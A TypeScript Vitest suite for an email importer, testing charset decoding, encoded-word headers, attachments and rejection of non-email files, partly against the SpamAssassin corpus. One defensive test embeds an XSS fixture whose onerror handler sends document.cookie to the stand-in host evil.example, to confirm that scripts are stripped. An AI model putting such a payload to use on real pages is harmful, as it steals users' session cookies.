import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { emailImporter } from '../../electron/core/importers/emailImporter'
import type { Source } from '../../shared/model'
import { corporaDir, corporaMissing, corporaPresent } from '../support/corpora'
import { libraryPerTest, type TestLibrary } from '../support/makeLibrary'

const library = libraryPerTest()

/** A message written in the test: header lines, a blank line, the body; CRLF as on the wire. */
function message(headers: string[], body: string[]): string {
  return [...headers, '', ...body].join('\r\n')
}

/** Bytes one per character, for messages that carry raw 8-bit bytes. */
const bytesOf = (text: string) => Buffer.from(text, 'latin1')

async function importEmail(t: TestLibrary, fileName: string, bytes: Uint8Array | string) {
  const { status, source } = await t.library.importFile(
    fileName,
    typeof bytes === 'string' ? new TextEncoder().encode(bytes) : bytes,
  )
  const { text } = await t.library.getSource(source.id)
  return { status, source, text }
}

// An independent reading of the headers, for the corpus: no postal-mime, only what the corpus uses.

/** Windows-1252 from its code chart, not TextDecoder (Node 20's reads it as Latin-1). */
const windows1252Chart = [
  0x20ac, 0x81, 0x201a, 0x192, 0x201e, 0x2026, 0x2020, 0x2021, 0x2c6, 0x2030, 0x160, 0x2039, 0x152,
  0x8d, 0x17d, 0x8f, 0x90, 0x2018, 0x2019, 0x201c, 0x201d, 0x2022, 0x2013, 0x2014, 0x2dc, 0x2122,
  0x161, 0x203a, 0x153, 0x9d, 0x17e, 0x178,
]

function decodeBytes(bytes: Uint8Array, charset: string): string {
  if (charset === 'utf-8') return new TextDecoder('utf-8', { fatal: true }).decode(bytes)
  if (['us-ascii', 'iso-8859-1', 'windows-1252'].includes(charset)) {
    return String.fromCodePoint(
      ...[...bytes].map((byte) =>
        byte >= 0x80 && byte < 0xa0 ? windows1252Chart[byte - 0x80]! : byte,
      ),
    )
  }
  throw new Error(`the corpus was not expected to use ${charset}`)
}

function isUtf8(bytes: Uint8Array): boolean {
  try {
    new TextDecoder('utf-8', { fatal: true }).decode(bytes)
    return true
  } catch {
    return false
  }
}

/** The first value of a top-level header, unfolded, from the raw bytes: UTF-8, else Windows-1252. */
function rawHeader(bytes: Buffer, name: string): string | undefined {
  const head = bytes.toString('latin1').split(/\r?\n\r?\n/)[0] ?? ''
  const unfolded = head.replace(/\r?\n(?=[ \t])/g, '')
  const line = unfolded
    .split(/\r?\n/)
    .find((candidate) => candidate.toLowerCase().startsWith(`${name}:`))
  if (line === undefined) return undefined
  const value = Buffer.from(line.slice(name.length + 1).trim(), 'latin1')
  return decodeBytes(value, isUtf8(value) ? 'utf-8' : 'windows-1252')
}

/** RFC 2047 encoded words (`=?charset?Q|B?text?=`); white space between two of them is not text. */
function decodeEncodedWords(value: string): string {
  return value
    .replace(/\?=\s+=\?/g, '?==?')
    .replace(
      /=\?([^?]+)\?([QqBb])\?([^?]*)\?=/g,
      (_word, charset: string, encoding: string, text: string) => {
        const bytes =
          encoding.toUpperCase() === 'B'
            ? Buffer.from(text, 'base64')
            : Buffer.from(
                text
                  .replace(/_/g, ' ')
                  .replace(/=([0-9A-Fa-f]{2})/g, (_hex, hex: string) =>
                    String.fromCharCode(parseInt(hex, 16)),
                  ),
                'latin1',
              )
        return decodeBytes(bytes, charset.toLowerCase())
      },
    )
}

const oneLine = (text: string) => text.replace(/\s+/g, ' ').trim()

/** A display name's words: quoted strings (with their `\\` escapes) and atoms, one space apart. */
function phrase(text: string): string {
  return [...text.matchAll(/"((?:[^"\\]|\\.)*)"|[^\s"]+/g)]
    .map(([word, quoted]) => (quoted === undefined ? word : quoted.replace(/\\(.)/g, '$1')))
    .join(' ')
}

/** `Name <address>`, `"Name" <address>`, `address (Name)` or a bare address, as a person reads it. */
function readMailbox(value: string): string {
  const angle = /^(.*?)\s*<([^<>]*)>\s*$/.exec(value)
  const comment = /^(\S+@\S+)\s+\((.*)\)$/.exec(value)
  const [name, address] = angle
    ? [phrase(angle[1]!), angle[2]!]
    : comment
      ? [comment[2]!, comment[1]!]
      : ['', value]
  const shown = oneLine(decodeEncodedWords(name))
  return shown ? `${shown} <${address.trim()}>` : address.trim()
}

/** What a reader would never see in a well-decoded name or subject. */
const garbled = /\uFFFD|[\u0080-\u009F]|Ã[\u0080-\u00BF]|â€/

const emailDir = join(corporaDir, 'email', 'easy-ham-2')
const emails = corporaPresent
  ? readdirSync(emailDir)
      .filter((name) => name.endsWith('.txt'))
      .sort()
  : []
const corpusFile = (prefix: string) => {
  const name = emails.find((candidate) => candidate.startsWith(`${prefix}.`))
  if (!name) throw new Error(`no e-mail ${prefix} in ${emailDir}`)
  return { fileName: name.replace(/\.txt$/, '.eml'), bytes: readFileSync(join(emailDir, name)) }
}

describe.skipIf(!corporaPresent)(
  corporaPresent ? 'the e-mails of the SpamAssassin corpus' : corporaMissing,
  () => {
    it('all import, titled by their Subject and authored by their From as read independently', async () => {
      expect(emails).toHaveLength(1400)
      const t = await library()
      const nonAsciiAuthors = new Set<string>()
      let notUtf8 = 0
      const check = async (name: string) => {
        const bytes = readFileSync(join(emailDir, name))
        if (!isUtf8(bytes)) notUtf8++
        const fileName = name.replace(/\.txt$/, '.eml')
        const result = await t.library.importFile(fileName, bytes)
        expect(['imported', 'duplicate']).toContain(result.status)
        // A duplicate answers with the source that brought the text first: read this one's own.
        const source: Pick<Source, 'title' | 'authors' | 'kind'> =
          result.status === 'imported' ? result.source : await emailImporter.parse(bytes, fileName)
        expect(source.kind, name).toBe('email')
        const subject = oneLine(decodeEncodedWords(rawHeader(bytes, 'subject') ?? ''))
        expect(source.title, name).toBe(subject || '(no subject)')
        const from = rawHeader(bytes, 'from')
        expect(source.authors, name).toEqual(from === undefined ? [] : [readMailbox(from)])
        expect(`${source.title} ${source.authors.join(' ')}`, name).not.toMatch(garbled)
        if (/[^\x00-\x7F]/.test(source.authors.join(''))) nonAsciiAuthors.add(source.authors[0]!)
      }
      // Eight files in flight, as a folder import runs them.
      for (let next = 0; next < emails.length; next += 8) {
        await Promise.all(emails.slice(next, next + 8).map(check))
      }
      expect(notUtf8).toBe(120)
      expect(t.library.info().counts.sources).toBeGreaterThan(1300)
      // Decoding is really exercised: raw Latin-1 and encoded words, five people in all.
      expect([...nonAsciiAuthors].sort()).toEqual([
        'Colm MacCárthaigh <colmmacc@redbrick.dcu.ie>',
        'Jørgen Thomsen <list@jth.net>',
        'Michèl Alexandre Salim <salimma1@yahoo.co.uk>',
        'Nils O. Selåsdal <noselasd@Utel.no>',
        'Ville Skyttä <ville.skytta@iki.fi>',
      ])
    }, 300_000)

    it.each([
      // Raw Latin-1 byte 0xE5 in a quoted display name, no encoded word.
      ['01131', 'My Repository...', 'Nils O. Selåsdal <noselasd@Utel.no>'],
      // =?iso-8859-1?Q?Colm_MacC=E1rthaigh?=
      [
        '00125',
        'Re: [ILUG] putty + proxy goodness',
        'Colm MacCárthaigh <colmmacc@redbrick.dcu.ie>',
      ],
      // =?ISO-8859-1?Q?J=F8rgen_Thomsen?= (upper-case charset and Q)
      [
        '00548',
        '[Razor-users] Content-Type: message/rfc822 supported ?',
        'Jørgen Thomsen <list@jth.net>',
      ],
      // A plain word, then =?ISO-8859-1?Q?Skytt=E4?=
      ['01171', "Re: req: Falcon's eye", 'Ville Skyttä <ville.skytta@iki.fi>'],
      // =?iso-8859-1?q?Mich=E8l=20Alexandre=20Salim?= (spaces as =20)
      ['01167', "Re: req: Falcon's eye", 'Michèl Alexandre Salim <salimma1@yahoo.co.uk>'],
      // Subject: =?us-ascii?Q?FW:_Re:_Al_Qaeda's_Fantasy_Ideology?=
      ['01048', "FW: Re: Al Qaeda's Fantasy Ideology", 'Damien Morton <damien.morton@acm.org>'],
    ])('reads e-mail %s as titled %j by %j', async (prefix, title, author) => {
      const { fileName, bytes } = corpusFile(prefix)
      const document = await emailImporter.parse(bytes, fileName)
      expect(document.title).toBe(title)
      expect(document.authors).toEqual([author])
    })

    it('reads an encoded-word recipient and the 8-bit bodies as written', async () => {
      const to = await emailImporter.parse(corpusFile('00549').bytes, '00549.eml')
      expect(to.details.to).toContain('Jørgen Thomsen <list@jth.net>')
      const bodies: [string, string, string][] = [
        // No charset declared, raw 0x92: Windows-1252, not U+FFFD.
        ['00990', 'windows-1252', 'Join the world’s largest e-mail service'],
        ['01317', 'windows-1252', 'by Jörg Schilling'],
        ['00813', 'windows-1252', "Hubble's protégé"],
        // iso-8859-1 declared, 0x93/0x94 meant as Windows-1252 quotes.
        ['01056', 'iso-8859-1', 'profiling” would disappear'],
      ]
      for (const [prefix, charset, words] of bodies) {
        const document = await emailImporter.parse(corpusFile(prefix).bytes, `${prefix}.eml`)
        expect(document.charset, prefix).toBe(charset)
        expect(
          document.blocks.map((block) => block.text.replace(/\s+/g, ' ')).join(' '),
          prefix,
        ).toContain(words)
      }
    })
  },
)

describe('importing an e-mail', () => {
  const plainAndHtml = message(
    [
      'From: "Ada Byline" <ada@example.org>',
      'To: Bob <bob@example.net>, carol@example.net',
      'Subject: Harbour systems =?utf-8?Q?fail_=E2=80=93_again?=',
      'Date: Tue, 1 Oct 2002 10:00:00 +0200',
      'Message-ID: <harbour.1@example.org>',
      'Content-Language: en-gb',
      'MIME-Version: 1.0',
      'Content-Type: multipart/alternative; boundary="alt"',
    ],
    [
      '--alt',
      'Content-Type: text/plain; charset=utf-8',
      '',
      'The gate system failed on Friday,',
      'officials said.',
      '',
      '> An earlier report said otherwise.',
      '--alt',
      'Content-Type: text/html; charset=utf-8',
      '',
      '<p>The gate system failed on Friday (markup edition).</p>',
      '--alt--',
    ],
  )

  it('prefers the text/plain part and records the headers', async () => {
    const t = await library()
    const { status, source, text } = await importEmail(t, 'harbour.eml', plainAndHtml)
    expect(status).toBe('imported')
    expect(source).toMatchObject({
      kind: 'email',
      title: 'Harbour systems fail – again',
      authors: ['Ada Byline <ada@example.org>'],
      publishedAt: '2002-10-01T08:00:00.000Z',
      origin: { fileName: 'harbour.eml', url: null },
      charset: 'utf-8',
      language: 'en-GB',
      importer: { name: 'email', version: '2' },
      details: {
        messageId: '<harbour.1@example.org>',
        to: ['Bob <bob@example.net>', 'carol@example.net'],
        languageFrom: 'declared',
      },
    })
    expect(source.details?.attachments).toBeUndefined()
    expect(text).toBe(
      'The gate system failed on Friday, officials said.\n\n> An earlier report said otherwise.',
    )
    expect(text).not.toContain('markup edition')
    const hits = await t.library.searchQuery('officials', 10)
    expect(hits.map((hit) => hit.sourceId)).toContain(source.id)
  })

  it('reads an HTML-only e-mail through the HTML importer, never its scripts', async () => {
    const t = await library()
    const html = message(
      [
        'From: alerts@example.org',
        'Subject: Outage notice',
        'Date: Wed, 2 Oct 2002 09:30:00 GMT',
        'Content-Type: text/html; charset=iso-8859-1',
      ],
      [
        '<html><head><title>Newsletter template</title>',
        '<script>document.title = "stolen"</script></head><body>',
        '<h1>Port outage</h1><p>Cranes stopped at the north quay.</p>',
        '<img src="x" onerror="fetch(\'https://evil.example/\' + document.cookie)">',
        '<p>Service resumed at noon.<script>alert("xss")</script></p>',
        '</body></html>',
      ],
    )
    const { source, text } = await importEmail(t, 'outage.eml', html)
    expect(source).toMatchObject({
      title: 'Outage notice',
      authors: ['alerts@example.org'],
      publishedAt: '2002-10-02T09:30:00.000Z',
      kind: 'email',
      charset: 'iso-8859-1',
    })
    expect(text).toContain('Cranes stopped at the north quay.')
    expect(text).toContain('Service resumed at noon.')
    expect(text).not.toMatch(/alert|evil|cookie|stolen|fetch/)
  })

  it('decodes a quoted-printable Windows-1252 body and encoded-word headers', async () => {
    const t = await library()
    const bytes = message(
      [
        'From: =?windows-1252?Q?Ren=E9e_O=92Brien?= <renee@example.ie>',
        'Subject: =?windows-1252?Q?It=92s_the_caf=E9?= =?koi8-r?B?8NLJ18XU?=',
        'Date: Thu, 3 Oct 2002 12:00:00 +0100',
        'Content-Type: text/plain; charset=windows-1252',
        'Content-Transfer-Encoding: quoted-printable',
      ],
      ['The caf=E9 it=92s about =96 =93closed=94 since', 'Monday, a soft=', 'break joined.'],
    )
    const { source, text } = await importEmail(t, 'cafe.eml', bytes)
    expect(source).toMatchObject({
      title: 'It’s the caféПривет',
      authors: ['Renée O’Brien <renee@example.ie>'],
      charset: 'windows-1252',
    })
    expect(text).toBe('The café it’s about – “closed” since Monday, a softbreak joined.')
  })

  it('decodes raw 8-bit headers by the charset the message declares, else as Windows-1252', async () => {
    const latin1 = await emailImporter.parse(
      bytesOf(
        message(
          [
            'From: Zoë Müller <zoe@example.de>',
            'Subject: Café in Zürich closed',
            'Content-Type: text/plain; charset=iso-8859-1',
          ],
          ['Das Café bleibt zu.'],
        ),
      ),
      'latin1.eml',
    )
    expect(latin1).toMatchObject({
      title: 'Café in Zürich closed',
      authors: ['Zoë Müller <zoe@example.de>'],
      charset: 'iso-8859-1',
      publishedAt: null,
    })
    expect(latin1.blocks).toEqual([{ type: 'paragraph', text: 'Das Café bleibt zu.' }])

    const koi8 = Buffer.concat([
      bytesOf('From: ivan@example.ru\r\nSubject: '),
      Buffer.from([0xf0, 0xd2, 0xc9, 0xd7, 0xc5, 0xd4]), // "Привет" in KOI8-R
      bytesOf('\r\nContent-Type: text/plain; charset=koi8-r\r\n\r\n'),
      Buffer.from([0xf0, 0xd2, 0xc9, 0xd7, 0xc5, 0xd4]),
    ])
    expect(await emailImporter.parse(koi8, 'koi8.eml')).toMatchObject({
      title: 'Привет',
      charset: 'koi8-r',
      blocks: [{ type: 'paragraph', text: 'Привет' }],
    })

    // No charset anywhere: 0x92 and 0xE9 are Windows-1252, and a UTF-8 header stays UTF-8.
    const undeclared = await emailImporter.parse(
      Buffer.concat([
        Buffer.from('From: Łukasz <l@example.pl>\r\nSubject: \r\n', 'utf8'),
        bytesOf('Date: not a date\r\n\r\nIt\x92s d\xe9j\xe0 vu.'),
      ]),
      'undeclared.eml',
    )
    expect(undeclared).toMatchObject({
      title: '(no subject)',
      authors: ['Łukasz <l@example.pl>'],
      publishedAt: null,
      charset: 'windows-1252',
      blocks: [{ type: 'paragraph', text: 'It’s déjà vu.' }],
    })
  })

  it('decodes a base64 UTF-8 body', async () => {
    const t = await library()
    const body = 'Grüße aus Kraków – “Zażółć gęślą jaźń”.\n\nZweiter Absatz.'
    const bytes = message(
      [
        'From: Jan <jan@example.pl>',
        'Subject: Base64',
        'Content-Type: text/plain; charset="UTF-8"',
        'Content-Transfer-Encoding: base64',
      ],
      Buffer.from(body, 'utf8')
        .toString('base64')
        .match(/.{1,76}/g) ?? [],
    )
    const { source, text } = await importEmail(t, 'base64.eml', bytes)
    expect(source.charset).toBe('utf-8')
    expect(text).toBe(body)
  })

  it('lists attachments without importing them', async () => {
    const t = await library()
    const pdf = Buffer.from(
      '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n',
      'latin1',
    )
    const bytes = message(
      [
        'From: Ada <ada@example.org>',
        'Subject: Report attached',
        'Message-ID: <report@example.org>',
        'Content-Type: multipart/mixed; boundary="mix"',
      ],
      [
        '--mix',
        'Content-Type: text/plain; charset=us-ascii',
        '',
        'Please find the quarterly report attached.',
        '--mix',
        'Content-Type: application/pdf; name="report.pdf"',
        'Content-Disposition: attachment; filename="report.pdf"',
        'Content-Transfer-Encoding: base64',
        '',
        pdf.toString('base64'),
        '--mix--',
      ],
    )
    const { source, text } = await importEmail(t, 'report.eml', bytes)
    expect(text).toBe('Please find the quarterly report attached.')
    expect(source.charset).toBe('us-ascii')
    expect(source.details).toMatchObject({
      messageId: '<report@example.org>',
      attachments: [{ fileName: 'report.pdf', contentType: 'application/pdf', size: pdf.length }],
    })
    expect(source.details?.to).toBeUndefined()
    expect(text).not.toContain('PDF')
  })
})

describe('refusing what is not a readable e-mail', () => {
  const attachmentOnly = message(
    ['From: scanner@example.org', 'Subject: Scan', 'Content-Type: multipart/mixed; boundary="b"'],
    [
      '--b',
      'Content-Type: image/png; name="scan.png"',
      'Content-Disposition: attachment; filename="scan.png"',
      'Content-Transfer-Encoding: base64',
      '',
      'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwABBAEAcCBlCwAAAABJRU5ErkJggg==',
      '--b--',
    ],
  )

  it.each([
    ['empty.eml', new Uint8Array(), /empty/],
    [
      'picture.eml',
      Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]),
      /binary/,
    ],
    [
      'notes.eml',
      new TextEncoder().encode('Meeting notes\n\nThe harbour gate failed again: see the log.\n'),
      /is not an e-mail \(no From, Subject or Date header\)/,
    ],
    [
      'scan.eml',
      new TextEncoder().encode(attachmentOnly),
      /has no text body \(only attachments\?\)/,
    ],
  ])(
    'refuses %s with an error naming the file, and changes nothing',
    async (fileName, bytes, problem) => {
      const t = await library()
      await importEmail(
        t,
        'harbour.eml',
        message(['From: a@example.org', 'Subject: Kept'], ['Kept text.']),
      )
      const before = { sources: t.library.listSources().length, counts: t.library.info().counts }
      const call = t.library.importFile(fileName, bytes)
      await expect(call).rejects.toMatchObject({ name: 'CasefileError', code: 'bad_file' })
      await expect(call).rejects.toThrow(problem)
      await expect(call).rejects.toThrow(fileName)
      expect({ sources: t.library.listSources().length, counts: t.library.info().counts }).toEqual(
        before,
      )
    },
  )
})
